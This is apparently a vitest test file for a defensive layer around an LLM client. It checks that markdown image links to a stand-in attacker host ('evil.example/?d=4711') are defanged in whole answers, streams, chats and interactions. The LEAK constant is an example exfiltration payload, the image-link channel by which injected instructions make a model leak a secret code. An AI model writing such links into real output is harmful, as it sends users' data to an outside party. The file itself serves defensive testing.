import { describe, expect, test } from 'vitest';
import { clientOf, converse, type Json, Provider, says } from './stage.ts';

const LEAK = 'Your code is 4711. ![chart](https://evil.example/?d=4711) That is all.';
const SHOWN = 'Your code is 4711. chart (address withheld: evil[.]example) That is all.';
const REQUEST = { model: 'm', contents: 'What is new?' };
const PIECES = (LEAK.match(/.{1,5}/gs) ?? []).map((text) => ({ text }));

/** A provider that answers with a stream of events. */
function streaming(events: readonly Json[], end = '\r\n\r\n'): Pick<Provider, 'fetch'> {
  const text = events.map((event) => `data: ${JSON.stringify(event)}`).join('\r\n\r\n') + end;
  return { fetch: async () => new Response(text, { headers: { 'content-type': 'text/event-stream' } }) };
}

function chunk(parts: readonly Json[], rest: Json = {}): Json {
  return { candidates: [{ content: { role: 'model', parts }, ...rest }] };
}

const STOP = { finishReason: 'STOP' };

/** The chunks that the application receives. */
async function streamed(events: readonly Json[], rawOutput = false): Promise<Json[]> {
  const { ai } = await clientOf(converse(), streaming(events), [], { rawOutput });
  const chunks: Json[] = [];
  for await (const each of await ai.models.generateContentStream(REQUEST)) chunks.push({ ...each, text: each.text });
  return chunks;
}

function textIn(chunks: readonly Json[]): string {
  return chunks.map(({ text }) => text ?? '').join('');
}

describe('a whole answer', () => {
  const answered = async (parts: readonly Json[], rawOutput = false) =>
    (await clientOf(converse(), new Provider(says(...parts)), [], { rawOutput })).ai.models.generateContent(REQUEST);

  test('is shown without an address that could carry data', async () => {
    const { candidates, text } = await answered([{ text: LEAK }]);
    expect(text).toBe(SHOWN);
    expect(candidates?.[0]?.content?.parts).toEqual([{ text: SHOWN }]);
  });
  test('that is divided into parts is read as one text', async () => {
    expect((await answered(PIECES)).text).toBe(SHOWN);
  });
  test('keeps thoughts, calls and signatures as they are and in order', async () => {
    const parts = [
      { text: LEAK, thought: true },
      { text: 'Now. ', thoughtSignature: 's' },
      { functionCall: { name: 'x', args: { url: LEAK } }, thoughtSignature: 't' },
      { text: 'Done.' },
    ];
    expect((await answered(parts)).candidates?.[0]?.content?.parts).toEqual(parts);
  });
  test('stays as it is with rawOutput', async () => {
    expect((await answered([{ text: LEAK }], true)).text).toBe(LEAK);
  });
});

describe('an answer in a stream', () => {
  test('is shown without an address that could carry data, piece by piece', async () => {
    const chunks = await streamed(PIECES.map((piece, at) => chunk([piece], at === PIECES.length - 1 ? STOP : {})));
    expect(textIn(chunks)).toBe(SHOWN);
    expect(chunks.slice(0, 3).map(({ text }) => text)).toEqual(['Your ', 'code ', 'is ']);
    expect(chunks.at(-1)).toMatchObject({ candidates: [STOP] });
  });
  test('is shown so too if every chunk says that it is the last', async () => {
    expect(textIn(await streamed(PIECES.map((piece) => chunk([piece], STOP))))).toBe(SHOWN);
  });
  test('is shown so too if no chunk says that it is the last', async () => {
    expect(textIn(await streamed(PIECES.map((piece) => chunk([piece]))))).toBe(SHOWN);
  });
  test('stays as it is with rawOutput', async () => {
    expect(
      textIn(
        await streamed(
          PIECES.map((piece) => chunk([piece])),
          true,
        ),
      ),
    ).toBe(LEAK);
  });
  test('shows the rest of the text before a call', async () => {
    const functionCall = { name: 'x', args: {} };
    const chunks = await streamed([chunk([{ text: 'I look' }]), chunk([{ functionCall }], STOP)]);
    const parts = chunks.flatMap(
      ({ candidates }) => (candidates as { content: { parts: Json[] } }[])[0]?.content.parts,
    );
    expect(parts).toEqual([{ text: 'I ' }, { text: 'look' }, { functionCall }]);
  });
  test('is part of the history of a chat, without empty texts', async () => {
    const events = PIECES.map((piece, at) => chunk([piece], at === PIECES.length - 1 ? STOP : {}));
    const { ai } = await clientOf(converse(), streaming(events), []);
    const chat = ai.chats.create({ model: 'm' });
    for await (const _ of await chat.sendMessageStream({ message: 'What is new?' }));
    const said = chat.getHistory(true).slice(1);
    const texts = said.flatMap(({ parts = [] }) => parts.map(({ text }) => text));
    expect(texts.join('')).toBe(SHOWN);
    expect(texts).not.toContain('');
  });
  test('keeps what a chunk says besides its text', async () => {
    const groundingMetadata = { webSearchQueries: ['weather'] };
    const chunks = await streamed([chunk([{ text: 'Wor' }], { groundingMetadata }), chunk([{ text: 'ds' }], STOP)]);
    expect(JSON.stringify(chunks)).toContain('weather');
    expect(textIn(chunks)).toBe('Words');
    expect(await streamed([{ usageMetadata: { totalTokenCount: 1 } }])).toMatchObject([{ usageMetadata: {} }]);
  });
  test('keeps several candidates apart', async () => {
    const events = [
      chunk([{ text: 'one ![a](' }], { index: 0 }),
      chunk([{ text: 'two ' }], { index: 1, ...STOP }),
      chunk([{ text: 'https://evil.example/?d=1)' }], { index: 0, ...STOP }),
    ];
    const text = JSON.stringify(await streamed(events));
    expect(text).not.toContain('d=1');
    expect(text).toMatch(/two .*evil\[\.\]example/);
  });
  test('that is malformed fails as it does without the boundary', async () => {
    const { ai } = await clientOf(converse(), streaming([], '{"error": {"code": 503'), []);
    const read = async () => {
      for await (const _ of await ai.models.generateContentStream(REQUEST));
    };
    await expect(read()).rejects.toThrow(/Incomplete JSON/);
  });
});

describe('an interaction', () => {
  const steps = (text: string) => [{ type: 'model_output', content: [{ type: 'text', text }] }];

  test('is shown without an address that could carry data, even if it is read later', async () => {
    const reply = { id: 'i1', status: 'completed', steps: steps(LEAK) };
    const { ai } = await clientOf(converse(), new Provider(reply, reply), []);
    expect((await ai.interactions.create({ model: 'm', input: 'Hi.' })).output_text).toBe(SHOWN);
    expect((await ai.interactions.get('i1')).output_text).toBe(SHOWN);
  });
  test('in a stream is shown so too', async () => {
    const events = [
      { event_type: 'interaction.created', interaction: { id: 'i1', status: 'in_progress' } },
      { event_type: 'step.start', index: 0, step: { type: 'model_output' } },
      ...PIECES.map(({ text }) => ({ event_type: 'step.delta', index: 0, delta: { type: 'text', text } })),
      { event_type: 'step.stop', index: 0 },
      { event_type: 'interaction.completed', interaction: { id: 'i1', status: 'completed', steps: steps(LEAK) } },
    ];
    const { ai } = await clientOf(converse(), streaming(events), []);
    const seen: Json[] = [];
    for await (const event of await ai.interactions.create({ model: 'm', input: 'Hi.', stream: true }))
      seen.push(event as unknown as Json);
    const deltas = seen.flatMap(({ delta }) => (delta === undefined ? [] : [String((delta as Json).text)]));
    expect(deltas.join('')).toBe(SHOWN);
    expect(JSON.stringify(seen)).not.toContain('d=4711');
    expect(seen.at(-2)?.event_type).toBe('step.stop');
  });
});
